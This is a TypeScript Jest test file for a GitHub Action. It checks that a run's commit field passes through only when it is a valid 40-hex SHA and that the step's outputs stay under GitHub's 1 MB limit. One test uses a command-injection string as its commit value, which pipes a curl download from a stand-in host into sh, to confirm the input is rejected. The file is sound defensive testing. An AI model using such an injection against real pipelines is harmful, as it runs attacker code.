/**
 * A commit is 40 hexadecimal characters, or it is not a commit: what a server
 * calls a run's commit reaches no output otherwise, and the outputs stay within
 * GitHub's 1 MB with the results kept (issue "Trust nothing", finding 3).
 */
import { describe, expect, it } from '@jest/globals'
import { DEMO } from '../test-support/fake-platform.js'
import { useFakePlatform } from '../test-support/platform-fixture.js'
import { runStep as runOnRunner } from '../test-support/run-step.js'

const platform = useFakePlatform()

/** One result of the demo run, with the run read first (to wait for it). */
const runStep = () =>
  runOnRunner({
    'api-url': platform().apiUrl,
    'api-token': DEMO.token,
    'run-id': String(DEMO.runId),
    'sample-id': String(DEMO.passingSample),
    'wait-timeout': '60'
  })

/** The demo run's description, with the commit the test gives. */
function runWithCommit(commitSha: string) {
  platform().enqueueFault({
    match: (path) => path === `/api/v1/runs/${DEMO.runId}`,
    json: { run_id: DEMO.runId, status: 'fail', platform: 'linux', commit_sha: commitSha }
  })
}

const outputBytes = (outputs: Record<string, string>) =>
  Object.entries(outputs).reduce(
    (sum, [name, value]) => sum + Buffer.byteLength(name) + Buffer.byteLength(value),
    0
  )

describe("a run's commit", () => {
  it('that is a command, not a SHA, reaches no output; one warning says so', async () => {
    runWithCommit('c0ffee"; curl https://example.invalid/x | sh; echo "')
    const step = await runStep()
    expect(step.outputs.commit).toBe('')
    expect(JSON.parse(step.outputs.runs ?? '[]')).toEqual([
      expect.objectContaining({ run_id: DEMO.runId, commit_sha: null })
    ])
    expect(Object.values(step.outputs).join('\n')).not.toContain('curl')
    expect(step.lines.filter((line) => line.startsWith('::warning::'))).toEqual([
      `::warning::The Sample Platform's run ${DEMO.runId} names as its commit something that is not a commit SHA (40 hexadecimal characters): it is left out of the outputs.`
    ])
    expect(step.outputs.status).toBe('pass')
  })

  it('of 3 MB leaves the outputs under 1 MB, the result kept whole', async () => {
    runWithCommit('a'.repeat(3 * 1024 * 1024))
    const step = await runStep()
    expect(outputBytes(step.outputs)).toBeLessThan(1024 * 1024)
    expect(JSON.parse(step.outputs.results ?? '[]')).toEqual([
      expect.objectContaining({
        id: DEMO.passingSample,
        status: 'pass',
        command: expect.any(String)
      })
    ])
  })

  it('in capitals is the same commit, in lower case', async () => {
    const sha = '0B1A967B732898E705EA8F2FDA5D08EB00328579'
    runWithCommit(sha)
    const step = await runStep()
    expect(step.outputs.commit).toBe(sha.toLowerCase())
    expect(step.lines.filter((line) => line.startsWith('::warning::'))).toEqual([])
  })
})
